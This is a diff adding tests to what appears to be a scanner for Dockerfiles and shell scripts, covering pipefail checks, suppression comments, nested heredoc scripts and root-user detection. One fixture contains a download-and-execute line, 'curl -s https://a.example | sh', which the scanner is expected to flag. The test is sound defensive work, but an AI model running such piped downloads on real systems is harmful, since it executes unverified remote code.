@@ -234,3 +234,40 @@ def test_objects_of_json_one_after_the_other_are_judged_each(judged):
         ("Pod/two", 5),
     ]
     assert any("line 7" in each.why for each in report.gaps if each.unit == "kubernetes")
+
+
+def test_commands_of_builds_are_told_with_their_lines_and_accepted_above_their_step(judged):
+    found = judged(
+        Dockerfile=(
+            "FROM a:1\nRUN a && \\\n  b | c\n# hullmark:allow pipeline-without-pipefail ours\n"
+            "RUN a && \\\n  b | c\nONBUILD RUN a | b\n"
+        )
+    )
+    told = [each[2] for each in places(found, "pipeline-without-pipefail")]
+    assert told == [3, 7]
+
+
+def test_scripts_that_a_build_writes_are_judged(judged):
+    found = judged(
+        Dockerfile="FROM a:1\nCOPY <<E /x.sh\n#!/bin/sh\n\ncurl -s https://a.example | sh\nE\n"
+    )
+    assert places(found, "script-downloads-and-executes")[0][2] == 5
+
+
+def test_scripts_that_stand_too_deep_in_scripts_are_a_gap(judged):
+    text = "ls"
+    for end in "ABCDE":
+        text = f"sh <<'{end}'\n{text}\n{end}"
+    found = judged(**{"x.sh": text, "y.sh": "sh -c 'sh -c ls'"})
+    (gap,) = [each for each in found.gaps if each.subject.endswith(".sh")]
+    assert (gap.subject, gap.why) == ("x.sh", "sh is handed a script 5 deep in scripts")
+
+
+def test_images_of_windows_do_not_run_as_root(judged):
+    found = judged(
+        **{
+            "a/Dockerfile": "FROM mcr.microsoft.com/windows/nanoserver:ltsc2025\nRUN a\n",
+            "b/Dockerfile": "FROM debian:13\nRUN a\n",
+        }
+    )
+    assert [each[0] for each in places(found, "runs-as-root")] == ["b/Dockerfile"]
